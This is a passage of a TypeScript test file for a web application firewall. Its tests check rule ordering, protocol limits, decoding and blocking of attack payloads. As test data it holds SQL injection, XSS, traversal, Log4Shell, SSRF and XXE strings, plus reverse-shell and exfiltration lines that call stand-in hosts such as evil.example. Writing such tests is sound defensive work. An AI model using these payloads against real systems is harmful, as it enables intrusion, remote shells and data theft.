/**
 * The security filter's decision function (`src/lib/waf`) on its own: rule kinds, rule order,
 * protocol limits, normalisation, each attack class in different request parts, and ordinary
 * inputs that must pass. The middleware around it is tested in waf.test.ts.
 */
import { describe, expect, it } from "vitest";
import { compileNetwork, evaluateRequest, PROTOCOL_LIMITS } from "../../src/lib/waf/index.ts";
import { normalizeValue, percentDecode } from "../../src/lib/waf/normalize.ts";
import { BROWSER, evaluate, req, security } from "./waf-requests.ts";

const query = (value: string, name = "q") =>
  evaluate({ url: `https://edge.test/search?${name}=${encodeURIComponent(value)}` });
const json = (body: unknown) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/v1/items",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  });
const form = (body: string) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/contact",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body,
  });

describe("network rules", () => {
  it("blocks listed addresses and CIDRs, IPv4 and IPv6, and lets others through", () => {
    const s = security({ blockedIps: ["198.51.100.7", "203.0.113.0/24", "2001:db8:bad::/48"] });
    expect(evaluate({ ip: "198.51.100.7" }, s)).toMatchObject({
      action: "block",
      ruleId: "network-blocked-ip",
      class: "network",
    });
    expect(evaluate({ ip: "203.0.113.200" }, s).action).toBe("block");
    expect(evaluate({ ip: "2001:db8:bad:1::5" }, s).action).toBe("block");
    expect(evaluate({ ip: "198.51.100.8" }, s).action).toBe("allow");
    expect(evaluate({ ip: "2001:db8:bee::5" }, s).action).toBe("allow");
    expect(evaluate({ ip: null }, s).action).toBe("allow");
  });

  it("an IPv4-mapped IPv6 client cannot bypass an IPv4 rule, and a mapped rule matches the IPv4 client", () => {
    const s = security({ blockedIps: ["203.0.113.7", "::ffff:198.51.100.0/120"] });
    for (const ip of ["::ffff:203.0.113.7", "::FFFF:203.0.113.7", "0:0:0:0:0:ffff:cb00:7107", "::ffff:cb00:7107"]) {
      expect(evaluate({ ip }, s), ip).toMatchObject({ action: "block", ruleId: "network-blocked-ip" });
    }
    expect(evaluate({ ip: "198.51.100.99" }, s).action).toBe("block");
    expect(evaluate({ ip: "198.51.101.1" }, s).action).toBe("allow");
  });

  it("allowedIps bypass every other rule, even a blocked address and an attack payload", () => {
    const s = security({ allowedIps: ["192.0.2.0/24"], blockedIps: ["192.0.2.10"], blockedCountries: ["DE"] });
    const d = evaluate({ ip: "192.0.2.10", url: "https://edge.test/s?q=%27%20OR%201%3D1--" }, s);
    expect(d).toMatchObject({ action: "allow", ruleId: "network-allowed-ip" });
    expect(evaluate({ ip: "192.0.3.10" }, s).ruleId).toBe("network-blocked-country");
  });

  it("blocks countries, ASNs and configured user-agent substrings (case-insensitive)", () => {
    expect(evaluate({ country: "KP" }, security({ blockedCountries: ["KP"] }))).toMatchObject({
      action: "block",
      ruleId: "network-blocked-country",
    });
    expect(evaluate({ country: null }, security({ blockedCountries: ["KP"] })).action).toBe("allow");
    expect(evaluate({ asn: 64496 }, security({ blockedAsns: [64496] }))).toMatchObject({
      action: "block",
      ruleId: "network-blocked-asn",
    });
    expect(evaluate({ asn: 64497 }, security({ blockedAsns: [64496] })).action).toBe("allow");
    const ua = security({ blockedUserAgents: ["BadBot"] });
    expect(evaluate({ headers: { "user-agent": "Mozilla/5.0 (compatible; badbot/2.1)" } }, ua)).toMatchObject({
      action: "block",
      ruleId: "user-agent-blocked",
    });
    expect(evaluate({}, ua).action).toBe("allow");
  });

  it("blocks built-in scanners and attack tools by user agent, not browsers, crawlers or HTTP libraries", () => {
    for (const ua of [
      "sqlmap/1.8.2#stable (https://sqlmap.org)",
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      "Fuzz Faster U Fool v2.1.0",
      "gobuster/3.6",
      "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
      "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
      "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    ]) {
      expect(evaluate({ headers: { "user-agent": ua } }), ua).toMatchObject({
        action: "block",
        ruleId: "scanner-user-agent",
        class: "scanner",
      });
    }
    for (const ua of [
      "curl/8.5.0",
      "python-requests/2.31.0",
      "Go-http-client/2.0",
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      "Vegas Travel App/1.2",
      BROWSER,
    ]) {
      expect(evaluate({ headers: { "user-agent": ua } }).action, ua).toBe("allow");
    }
  });

  it("compiles the network rules once per config object", () => {
    const s = security({ blockedIps: ["203.0.113.0/24"] });
    expect(compileNetwork(s)).toBe(compileNetwork(s));
    expect(compileNetwork(security({ blockedIps: ["203.0.113.0/24"] }))).not.toBe(compileNetwork(s));
    expect(compileNetwork(security({ blockedIps: ["not-an-ip", "10.0.0.0/33"] })).invalid).toEqual([
      "not-an-ip",
      "10.0.0.0/33",
    ]);
  });
});

describe("custom rules", () => {
  const s = security({
    rules: [
      { id: "log-admin", action: "log", match: { pathPrefix: "/admin" } },
      { id: "allow-admin-health", action: "allow", match: { pathPrefix: "/admin/health" } },
      { id: "block-admin", action: "block", match: { pathPrefix: "/admin" } },
      { id: "block-delete-fr", action: "block", match: { methods: ["DELETE"], countries: ["FR"] } },
      { id: "block-legacy-client", action: "block", match: { header: { name: "X-Client", contains: "legacy/1." } } },
      { id: "block-get-reports", action: "block", match: { pathPrefix: "/reports", methods: ["GET"] } },
    ],
  });

  it("are evaluated in order: the first allow/block wins, log rules are recorded and evaluation goes on", () => {
    const blocked = evaluate({ url: "https://edge.test/admin/users" }, s);
    expect(blocked).toMatchObject({ action: "block", ruleId: "block-admin", class: "custom" });
    expect(blocked.matches.map((m) => m.ruleId)).toEqual(["log-admin", "block-admin"]);
    const allowed = evaluate({ url: "https://edge.test/admin/health?q=%27%20OR%201%3D1--" }, s);
    expect(allowed).toMatchObject({ action: "allow", ruleId: "allow-admin-health" });
    expect(allowed.matches.map((m) => m.ruleId)).toEqual(["log-admin", "allow-admin-health"]);
  });

  it("a log-only match logs the request and an attack after it is still blocked", () => {
    const onlyLog = security({ rules: [{ id: "watch-export", action: "log", match: { pathPrefix: "/export" } }] });
    expect(evaluate({ url: "https://edge.test/export?page=1" }, onlyLog)).toMatchObject({
      action: "log",
      ruleId: "watch-export",
      class: "custom",
    });
    expect(
      evaluate({ url: "https://edge.test/export?id=1%20UNION%20SELECT%20password%2C1%20FROM%20users" }, onlyLog),
    ).toMatchObject({ action: "block", class: "sqli" });
  });

  it("match method, country, header and the decoded path; GET rules cover HEAD", () => {
    expect(evaluate({ method: "DELETE", url: "https://edge.test/v1/x", country: "FR" }, s).ruleId).toBe(
      "block-delete-fr",
    );
    expect(evaluate({ method: "DELETE", url: "https://edge.test/v1/x", country: "DE" }, s).action).toBe("allow");
    expect(evaluate({ method: "GET", url: "https://edge.test/v1/x", country: "FR" }, s).action).toBe("allow");
    expect(evaluate({ headers: { "x-client": "Legacy/1.4 (android)" } }, s).ruleId).toBe("block-legacy-client");
    expect(evaluate({ headers: { "x-client": "modern/2.0" } }, s).action).toBe("allow");
    expect(evaluate({ url: "https://edge.test/%61dmin/users" }, s).ruleId).toBe("block-admin");
    expect(evaluate({ method: "HEAD", url: "https://edge.test/reports/1" }, s).ruleId).toBe("block-get-reports");
    expect(evaluate({ method: "POST", url: "https://edge.test/reports/1" }, s).action).toBe("allow");
  });
});

describe("protocol limits", () => {
  it("refuses methods outside the API's (TRACE, TRACK, CONNECT, DEBUG, WebDAV)", () => {
    for (const method of ["TRACE", "TRACK", "CONNECT", "DEBUG", "PROPFIND"]) {
      expect(evaluate({ method }), method).toMatchObject({
        action: "block",
        ruleId: "protocol-method-not-allowed",
        class: "protocol",
      });
    }
    for (const method of ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"])
      expect(evaluate({ method }).action, method).toBe("allow");
  });

  it("treats a % not followed by two hex digits as text (100%, 50% off), and valid escapes as usual", () => {
    expect(evaluate({ url: "https://edge.test/search?q=100%" })).toMatchObject({ action: "allow" });
    expect(evaluate({ url: "https://edge.test/search?q=50%%20off" }).action).toBe("allow");
    expect(evaluate({ url: "https://edge.test/search?q=%zz" }).action).toBe("allow");
    expect(evaluate({ url: "https://edge.test/files/a%2" }).action).toBe("allow");
    expect(evaluate({ url: "https://edge.test/search?q=100%25%20caf%C3%A9&x=%E9" }).action).toBe("allow");
    // An attack does not hide behind a stray %.
    expect(evaluate({ url: "https://edge.test/search?q=100%%27%20OR%201%3D1--" }).action).toBe("block");
  });

  it("refuses over-long URLs, too many query arguments, too many or too large headers", () => {
    expect(evaluate({ url: `https://edge.test/s?q=${"a".repeat(PROTOCOL_LIMITS.maxUrlLength)}` }).ruleId).toBe(
      "protocol-url-too-long",
    );
    expect(evaluate({ url: `https://edge.test/s?q=${"a".repeat(PROTOCOL_LIMITS.maxUrlLength - 100)}` }).action).toBe(
      "allow",
    );
    const args = (n: number) => Array.from({ length: n }, (_, i) => `a${i}=1`).join("&");
    expect(evaluate({ url: `https://edge.test/s?${args(PROTOCOL_LIMITS.maxQueryArgs + 1)}` }).ruleId).toBe(
      "protocol-too-many-args",
    );
    expect(evaluate({ url: `https://edge.test/s?${args(PROTOCOL_LIMITS.maxQueryArgs)}` }).action).toBe("allow");
    const many = Object.fromEntries(Array.from({ length: PROTOCOL_LIMITS.maxHeaders }, (_, i) => [`x-h${i}`, "1"]));
    expect(evaluate({ headers: many }).ruleId).toBe("protocol-too-many-headers");
    expect(evaluate({ headers: { "x-big": "a".repeat(PROTOCOL_LIMITS.maxHeaderBytes) } }).ruleId).toBe(
      "protocol-headers-too-large",
    );
  });
});

describe("normalisation", () => {
  it("decodes repeated percent-encoding, %u, overlong UTF-8, entities, escapes and fullwidth forms", () => {
    expect(normalizeValue("%253Cscript%253E").text).toBe("<script>");
    expect(normalizeValue("%u003Csvg%u003E").text).toBe("<svg>");
    expect(normalizeValue("%c0%ae%c0%ae%c0%af").text).toBe("../");
    expect(normalizeValue("&lt;img&#x20;src&#61;x&gt;").text).toBe("<img src=x>");
    expect(normalizeValue("\\u003cb\\x3e").text).toBe("<b>");
    expect(normalizeValue("＜script＞").text).toBe("<script>");
    expect(normalizeValue("a%00b")).toEqual({ text: "ab", hadNull: true });
    expect(percentDecode("caf%C3%A9 100%")).toBe("café 100%");
  });

  it("decodes only entities it knows: a query string's `&` and an object's inherited member names stay text", () => {
    expect(normalizeValue("?step=review&utm_source=newsletter&lt=1").text).toBe(
      "?step=review&utm_source=newsletter<=1",
    );
    expect(normalizeValue("Ben &valueOf; Jerry &toString; &lt;b").text).toBe("Ben &valueOf; Jerry &toString; <b");
    expect(normalizeValue("&AMP;lt;&abcdefghlt;&#0000060;").text).toBe("<&abcdefghlt;<");
  });
});

describe("sentences (the prose fast path)", () => {
  // Sentences skip every detector but SQL and command lines: SQL written in words after a quote
  // must still be found in them, in any script, and the same sentences without it must pass.
  const sentences = [
    "We visited O'Brien's garden and it's lovely, isn't it? Come along with your friends.",
    "Die Straße ist lang, aber der Weg lohnt sich: wir kommen gern wieder, sagt Jürgen.",
    "東京の天気はとても良いです、明日も晴れるでしょう. 皆さん、よろしくお願いします.",
  ];
  it.each(sentences)("passes %j and blocks it with a quote breakout in words", (text) => {
    expect(json({ note: text }).action).toBe("allow");
    expect(json({ note: `${text} x' or 'a' like 'a` }).action).toBe("block");
    expect(json({ note: `1 union select username, password from users ${text}` }).action).toBe("block");
  });
  it("treats a cmd.exe control line in a sentence as a command line", () => {
    expect(query("IF EXIST C:\\boot.ini ECHO found and this is a long sentence").action).toBe("block");
  });

  // Long values are read without the sentences inside them (`withoutProse`): what is left out
  // must never hide an attack between paragraphs, nor join two harmless pieces into one.
  const paragraph = sentences.join(" ").repeat(4);
  const post = (middle: string) =>
    json({ body: `${middle}\n\n${paragraph}`, quoted: `${paragraph}\n\n${middle}\n\n${paragraph} ${paragraph}` });
  it.each([
    ["markup", "<img src=x onerror=alert(document.cookie)>"],
    ["SQL after a quote, in words", "Nice post x' union select username, password from users where 'a' like 'a"],
    ["a command line on its own line", "; cat /etc/passwd | nc evil.example 4444"],
    ["a template expression", "Hello {{ self.__init__.__globals__.__builtins__ }}"],
    ["a traversal", "see ../../../../etc/passwd for details"],
  ])("finds %s before and between long paragraphs", (_kind, middle) => {
    expect(post(middle).action).toBe("block");
  });
  // The value's first sentence is left out like the others when it has no quote: what follows
  // it is read as what follows any left-out sentence, not as something far into the value.
  const first = "Please find my order history below and tell me why the last delivery took three weeks.";
  it("reads a probe after the value's first sentence as after any other", () => {
    expect(json({ note: `${first} 1%';(select * from (select(sleep(5)))srmq) and '%'=' ${paragraph}` })).toMatchObject({
      action: "block",
      class: "sqli",
    });
    expect(json({ note: `${first} ${paragraph}` }).action).toBe("allow");
    expect(
      json({ note: `${first} Here's what I run:\n\nconst rows = await db.select().from(orders);\n\n${paragraph}` })
        .action,
    ).toBe("allow");
  });
  it.each([
    ["a code line", "const rows = await db.select().from(orders).where(eq(orders.customer, name));"],
    ["a markdown list and a heading", "## Features\n\n- Don't buy\n- Works with *any* TV"],
    [
      "a quote, a sentence, then a heading",
      `# 4K TV 55"\n\nThe cat's out of the bag: we're launching in Spain and Portugal in June!\n\n## Features\n\n- Don't buy\n- Works with *any* TV`,
    ],
    ["an e-mail and a URL", "Write to ana@example.com or see https://example.com/docs?page=2."],
  ])("passes %s before and between long paragraphs", (_kind, middle) => {
    expect(post(middle).action).toBe("allow");
  });
});

describe("field values that are sentences but for a little punctuation", () => {
  // Names, addresses, notes and product names take the sentence path with the detectors their
  // punctuation needs (`/`: paths and commands; `;`, `&`: commands and SQL; `word (`: SQL and PHP).
  it.each([
    "c/o Reception (2nd floor)",
    "Gift wrap & card",
    "Leave with the concierge if I'm out; don't ring after 9 pm.",
    "Wall mount — VESA 300×300, tilt ±15°",
    "Deliver to the office, 4th floor, ask for Sam @ reception. (#3)",
    "Ngozi D'Arcy",
    "Happy 40th, Dave! Don't watch it all in one night :)",
    "Levi's 501 Jeans — W32/L34",
    "USB-C hub (7-in-1)",
    "+353 1 555 0142",
    "(555) 010-1234",
    "2026-12-09T10:00:00+00:00",
    "I don’t know, it’s fine",
  ])("passes %j", (v) => {
    expect(json({ v }).action).toBe("allow");
  });
  it.each([
    "order & whoami",
    "gift wrap & net user hacker p4ss /add",
    "name; cat /etc/passwd",
    "parcel; wget evil.example",
    "Mr Smith; drop table users",
    "Ana & sleep 5",
    "x' or 'a' like 'a",
    "exec  (blah)",
    "see (select password from users)",
    "hello world (alert (1))",
    "admin' #",
    // typographic quotes that some databases and drivers fold to SQL quotes
    "x’ or ’a’ like ’a",
    "name” or “a” like “a",
    "We visited O’Brien’s garden and it’s lovely, isn’t it? Come along x’ or ’a’ like ’a",
  ])("blocks %j", (v) => {
    expect(json({ v }).action).toBe("block");
  });
});

describe("encodings and places the GoTestWAF test cases use", () => {
  const path = (segment: string) => evaluate({ url: `https://edge.test/${encodeURIComponent(segment)}` });
  const b64 = (s: string) => btoa(s).replaceAll("=", "");
  const xml = (body: string) =>
    evaluate({ method: "POST", url: "https://edge.test/import", headers: { "content-type": "application/xml" }, body });

  it("reads a path segment as the route parameter it becomes", () => {
    expect(path("confirm.call(null,1)")).toMatchObject({ action: "block", class: "xss" });
    expect(path("true, $where: '99 == 88'")).toMatchObject({ action: "block", class: "nosql" });
    expect(evaluate({ url: "https://edge.test/get/eval(" }).action).toBe("allow");
    for (const url of ["/wiki/Foo_(bar)", "/files/report%20(final).pdf", "/users/O'Brien/orders", "/@sam", "/tags/C++"])
      expect(evaluate({ url: `https://edge.test${url}` }).action, url).toBe("allow");
  });

  it("reads a value that is base64 of text decoded (as a form sends it, too), and passes ids, tokens and words", () => {
    expect(query(b64("' or 1=1--"))).toMatchObject({ action: "block", class: "sqli" });
    expect(form(`x=${b64('"><svg onload=alert(1)>')}`)).toMatchObject({ action: "block", class: "xss" });
    // `+` digits arrive as spaces once the form is decoded.
    const plus = b64("<img src=x onerror=alert(document.domain)>/all");
    expect(plus).toContain("+");
    expect(evaluate({ url: `https://edge.test/search?q=${plus}` }).action).toBe("block");
    expect(path(b64("; cat /etc/passwd")).action).toBe("block");
    for (const v of [
      b64("hello world, how are you"),
      b64('{"page":2,"sort":"recent"}'),
      "ord01JD8ZQ4X7K2M9PV3T255S",
      "Internationalization",
      "dGVzdA",
      "c2VjcmV0LXRva2Vu",
    ])
      expect(query(v).action, v).toBe("allow");
  });

  it("reads a value that is hex of text decoded (commix's hexencode), and passes hashes, ids and colours", () => {
    const hex = (s: string) => [...new TextEncoder().encode(s)].map((b) => b.toString(16).padStart(2, "0")).join("");
    expect(query(hex(";echo QWERTY$((47+35))$(echo QWERTY)QWERTY"))).toMatchObject({
      action: "block",
      class: "command",
    });
    expect(query(hex("1' or 1=1-- ").toUpperCase())).toMatchObject({ action: "block", class: "sqli" });
    expect(form(`x=${hex("<svg onload=alert(1)>")}`)).toMatchObject({ action: "block", class: "xss" });
    for (const v of [
      hex("hello world, how are you"),
      hex('{"page":2,"sort":"recent"}'),
      "da39a3ee5e6b4b0d3255bfef95601890afd80709",
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
      "507f1f77bcf86cd799439011",
      "0123456789abcdef0123456789abcdef",
      "ff00ff",
      "4a6f686e20446f65",
      // Long numbers (cards, orders) whose digit pairs happen to be printable are numbers, not hex.
      "2677235878505746",
      "772626433629573460345267",
      "42385742762940286048",
    ])
      expect(query(v).action, v).toBe("allow");
  });

  it("blocks mail commands on lines of their own, not prose that starts a line with a capital", () => {
    expect(query("\r\nV100 CAPABILITY\r\nV101 FETCH 4791")).toMatchObject({
      action: "block",
      ruleId: "crlf-mail-command",
    });
    expect(form("to=%0ARCPT%20TO:%20test@evil.example%0A")).toMatchObject({
      action: "block",
      ruleId: "crlf-mail-command",
    });
    expect(json({ note: "Hello team,\nQUIT smoking now\nDATA is in the sheet" }).action).toBe("allow");
  });

  it("blocks a DOCTYPE that fetches its DTD, and passes the W3C's (an SVG as editors export it)", () => {
    expect(xml('<!DOCTYPE x SYSTEM "//x/x" > <x>a</x>')).toMatchObject({ action: "block", ruleId: "xxe-external-dtd" });
    expect(xml('<!DOCTYPE x SYSTEM "http://www.w3.org.evil.example/x.dtd"><x/>').action).toBe("block");
    expect(
      xml(
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>',
      ).action,
    ).toBe("allow");
  });

  it("reads a fragment that starts where the application's value ends (a space, then OR, AND, ORDER BY)", () => {
    for (const v of [" OR 1=1", " ORDER BY 5-- ", " AND 1083=1083 AND ('1427=1427", " OR x=x#"])
      expect(query(v), v).toMatchObject({ action: "block", class: "sqli" });
    for (const v of [" and more to come", " or maybe not", " Or else, one = one"])
      expect(query(v).action, v).toBe("allow");
  });

  it("reads `+` as the space a form decoder would make of it, also next to real spaces", () => {
    expect(json({ q: "' union+/*!select*/ (1),(2),(3)" })).toMatchObject({
      action: "block",
      ruleId: "sqli-union-select",
    });
    for (const v of ["C++ and more", "1+1=2 is maths", "a+b or c+d"]) expect(json({ q: v }).action, v).toBe("allow");
  });

  it("reads a form string inside a value (a body sent without its type) for NoSQL operators, by the same rules as names", () => {
    expect(query("username[$ne]=toto&password[$ne]=toto")).toMatchObject({ action: "block", ruleId: "nosql-operator" });
    expect(query("filter[price][$gte]=5").action).toBe("allow");
    expect(
      evaluate({
        method: "POST",
        url: "https://edge.test/login",
        body: "username%255B%2524ne%255D%3Dx%26password%255B%2524ne%255D%3Dx",
      }).action,
    ).toBe("block");
  });

  it("reads JavaScript octal string escapes as a script does", () => {
    expect(
      query('(()=>{})["\\143\\157\\156\\163\\164\\162\\165\\143\\164\\157\\162"]("\\141\\154\\145\\162\\164()")()'),
    ).toMatchObject({ action: "block", class: "xss" });
    expect(query("C:\\100\\200\\300 files").action).toBe("allow");
  });

  it("blocks a template probe that calls a method on a string literal in a parameter, not in a body", () => {
    expect(query("{{'someString'.toUpperCase()}}")).toMatchObject({
      action: "block",
      ruleId: "template-expression-probe",
    });
    expect(json({ template: 'Total: {{ "{:,}".format(total) }} for {{ user.name }}' }).action).toBe("allow");
  });

  it("blocks a harmless JavaScript statement probe in a parameter (as CRS 934100), not in a JSON field where code is posted", () => {
    expect(query("console.info(1)")).toMatchObject({ action: "block", ruleId: "node-code-eval" });
    expect(query("console.log(process.env)").action).toBe("block");
    expect(json({ snippet: "console.log('Done');" }).action).toBe("allow");
    // A line of code searched for or pasted as a query prints text or a variable: no probe.
    for (const line of [
      "console.log('Done');",
      "console.error('Invalid webhook signature:', error);",
      "console.log(err)",
    ])
      expect(query(line).action, line).toBe("allow");
    expect(form(`snippet=${encodeURIComponent("async function getData() {")}`).action).toBe("allow");
    expect(json({ snippet: "require('child_process').exec('id')" }).action).toBe("block");
  });

  it("reads a JSON pointer or a quoted --flag after a quote as text, and truncation as truncation", () => {
    for (const v of ["$ref: '#/components/schemas/User'", "opts['--'] - when true", "args: ['--verbose', '--six']"])
      expect(query(v).action, v).toBe("allow");
    for (const v of ["admin'--", "admin'#", "admin')-- -"])
      expect(query(v), v).toMatchObject({ action: "block", class: "sqli" });
  });

  it("blocks a container's mounted secrets as a sensitive path, not the words", () => {
    for (const v of [
      "/run/secrets/kubernetes.io/serviceaccount/token",
      "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
    ])
      expect(query(v, "file"), v).toMatchObject({ action: "block", ruleId: "traversal-sensitive-file" });
    expect(query("how to run/secrets in docker compose").action).toBe("allow");
  });

  it("reads ${HOME:0:1} as the / it expands to, and ideographic full stops in a URL's host as dots", () => {
    expect(query("cat ${HOME:0:1}etc${HOME:0:1}passwd", "host")).toMatchObject({ action: "block", class: "command" });
    expect(query("http://169。254。169。254/latest/meta-data/", "url")).toMatchObject({
      action: "block",
      ruleId: "ssrf-cloud-metadata",
    });
    expect(query("東京。大阪。京都。").action).toBe("allow");
  });

  it("blocks UNION SELECT whose select list concatenates columns", () => {
    expect(query("' UNION SELECT username || ':' || password FROM users")).toMatchObject({
      action: "block",
      ruleId: "sqli-union-select",
    });
    expect(
      form(`q=${encodeURIComponent(`${"A".repeat(8000)}' UNION SELECT username || ':' || password FROM users`)}`)
        .action,
    ).toBe("block");
  });

  it("blocks scanners by the out-of-band hosts and script names in their User-Agent", () => {
    for (const ua of [
      "Microsoft WinRM Client OpenVASVT",
      "mercuryboard_user_agent_sql_injection.nasl'",
      `${BROWSER} root@w63gecoroprj5um8ypnd7r6in9t0hseg3.interact.sh`,
    ])
      expect(evaluate({ headers: { "user-agent": ua } }), ua).toMatchObject({
        action: "block",
        ruleId: "scanner-user-agent",
      });
  });
});

describe("web addresses in fields (only what a URL itself can be is looked for)", () => {
  const field = (url: string, key = "url") => json({ [key]: url }).action;
  it.each([
    "https://shop.example.com/cart?step=review&utm_source=newsletter&v=1",
    "https://cdn.example.com/img/a-b_c.png#top",
  ])("passes %s", (url) => {
    expect(field(url)).toBe("allow");
    expect(field(url, "file")).toBe("allow");
  });
  it.each([
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://localhost:8080/admin",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://evil.example/shell.txt?",
    "http://192.168.0.1/c99.php",
    "http://2130706433/",
    // octets past 255, read by parsers that keep each octet's low byte (SSRFmap's level 5)
    "http://tomcat:password@383.256.256.257:8888/manager/html",
    "http://425.510.425.510/latest/meta-data/",
    "https://a.example/?class.module.classLoader.URLs=x",
  ])("blocks %s", (url) => {
    expect(field(url)).toBe("block");
  });
  it("weighs an address by the field it is in (an include-like name)", () => {
    expect(field("https://pastebin.com/raw/abc")).toBe("allow");
    expect(field("https://pastebin.com/raw/abc", "file")).toBe("block");
  });
});

describe("payload inspection", () => {
  const attacks: Array<[string, () => ReturnType<typeof evaluate>]> = [
    ["sqli", () => query("' OR '1'='1")],
    ["sqli", () => json({ user: { name: "admin'--" } })],
    ["sqli", () => form("email=a%40b.c&q=1%20UNION%20ALL%20SELECT%20NULL%2C%40%40version--")],
    ["sqli", () => evaluate({ headers: { cookie: "uid=1%3B%20DROP%20TABLE%20users--" } })],
    ["xss", () => query("<svg/onload=alert(1)>")],
    ["xss", () => json({ comment: "<img src=x onerror=alert(document.cookie)>" })],
    ["xss", () => evaluate({ headers: { "user-agent": "<script>alert(1)</script>" } })],
    ["xss", () => query("jav&#x09;ascript:alert(1)", "next")],
    ["traversal", () => query("....//....//....//etc/passwd", "file")],
    ["traversal", () => form("doc=%252e%252e%252f%252e%252e%252fetc%252fpasswd")],
    ["rfi", () => query("http://evil.example/shell.txt?", "page")],
    ["command", () => query("127.0.0.1; cat${IFS}/etc/passwd", "host")],
    ["command", () => json({ host: "8.8.8.8 | nc -e /bin/sh 198.51.100.7 4444" })],
    ["command", () => evaluate({ headers: { "user-agent": "() { :; }; /bin/bash -c id" } })],
    ["ssrf", () => query("http://169.254.169.254/latest/meta-data/", "url")],
    ["ssrf", () => json({ webhook: "http://0x7f000001:6379/" })],
    ["ssrf", () => form("avatar=http%3A%2F%2F%5B%3A%3Affff%3A127.0.0.1%5D%2F")],
    ["template", () => query("{{7*7}}", "name")],
    ["template", () => json({ subject: "{{ lipsum.__globals__.os.popen('id').read() }}" })],
    ["log4shell", () => evaluate({ headers: { "x-api-version": "${${lower:j}ndi:ldap://evil.example/a}" } })],
    ["log4shell", () => json({ username: "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}" })],
    ["php", () => query("php://filter/convert.base64-encode/resource=index.php", "page")],
    ["php", () => form("code=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B+%3F%3E")],
    ["java", () => evaluate({ headers: { cookie: "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC" } })],
    [
      "java",
      () =>
        evaluate({
          method: "POST",
          url: "https://edge.test/import",
          headers: { "content-type": "application/json" },
          body: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}',
        }),
    ],
    [
      "xxe",
      () =>
        evaluate({
          method: "POST",
          url: "https://edge.test/import",
          headers: { "content-type": "application/xml" },
          body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        }),
    ],
  ];
  it.each(attacks)("detects %s (%#)", (cls, run) => {
    const d = run();
    expect(d.action).toBe("block");
    expect(d.class).toBe(cls);
    expect(d.score).toBeGreaterThanOrEqual(5);
  });

  it("inspects multipart text fields, base64 parts and declared base64 data URLs", () => {
    const b = "----x1";
    const multipart = (part: string) =>
      evaluate({
        method: "POST",
        url: "https://edge.test/upload",
        headers: { "content-type": `multipart/form-data; boundary=${b}` },
        body: `--${b}\r\n${part}\r\n--${b}--\r\n`,
      });
    expect(multipart('Content-Disposition: form-data; name="bio"\r\n\r\n<script>alert(1)</script>').class).toBe("xss");
    expect(
      multipart(
        `Content-Disposition: form-data; name="note"\r\nContent-Transfer-Encoding: base64\r\n\r\n${btoa("' UNION SELECT password, 1 FROM users--")}`,
      ).class,
    ).toBe("sqli");
    expect(
      multipart(
        'Content-Disposition: form-data; name="f"; filename="../../../etc/passwd"\r\nContent-Type: image/png\r\n\r\n\x89PNG',
      ).class,
    ).toBe("traversal");
    expect(
      multipart(
        'Content-Disposition: form-data; name="f"; filename="cat.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG <script>',
      ).action,
    ).toBe("allow");
    expect(query(`data:text/html;base64,${btoa("<svg onload=alert(1)>")}`, "icon").class).toBe("xss");
    expect(query(`data:image/png;base64,${btoa("<svg onload=alert(1)>")}`, "icon").action).toBe("allow");
  });

  it("judges one value by where it stands, also when the per-isolate result cache has seen it elsewhere", () => {
    const asQuery = () => evaluate({ url: "https://edge.test/search?q=shell.php" }).action;
    const asUpload = () => evaluate({ headers: { "x-filename": "shell.php" } }).action;
    expect([asQuery(), asUpload(), asQuery(), asUpload()]).toEqual(["allow", "block", "allow", "block"]);
    expect(evaluate({ url: "https://edge.test/search?q=sessionid" }).action).toBe("allow");
    expect(evaluate({ url: "https://edge.test/search?sessionid=abc" }).action).toBe("block");
    // One value under many names keeps being judged per name.
    for (let i = 0; i < 20; i++)
      expect(evaluate({ url: `https://edge.test/search?n${i}=shell.php` }).action).toBe("allow");
    expect(asUpload()).toBe("block");
  });

  it("judges a long body value (cached since it may come again) by its field, every time", () => {
    const address = `https://pastebin.com/raw/${"a1B2c3".repeat(12)}?utm_source=newsletter`;
    const attack = `Please call me back ${"at your earliest convenience ".repeat(3)}' UNION SELECT password FROM users--`;
    expect(address.length).toBeGreaterThan(64);
    for (let i = 0; i < 3; i++) {
      expect(json({ url: address }).action).toBe("allow");
      expect(json({ file: address }).action).toBe("block");
      expect(json({ note: attack })).toMatchObject({ action: "block", class: "sqli" });
    }
  });

  it("a JSON key is judged by its own key path, whatever an earlier request left in the result cache", () => {
    // `$ne` inside a filter object is a query a client may compose (paranoia level 2); at a
    // login's fields it is the classic authentication bypass. The first must not make the
    // cache pass the second (it did: one request poisoned the isolate's cache for everyone).
    const login = { username: { $ne: null }, password: { $ne: null } };
    for (let i = 0; i < 3; i++) {
      expect(json({ filter: { status: { $ne: "archived" } } }).action).toBe("allow");
      expect(json(login)).toMatchObject({ action: "block", ruleId: "nosql-operator" });
    }
    // A session id counts as a parameter at the top level only, in either order.
    for (let i = 0; i < 3; i++) {
      expect(json({ user: { jsessionid: "a1b2c3" } }).matches ?? []).toEqual([]);
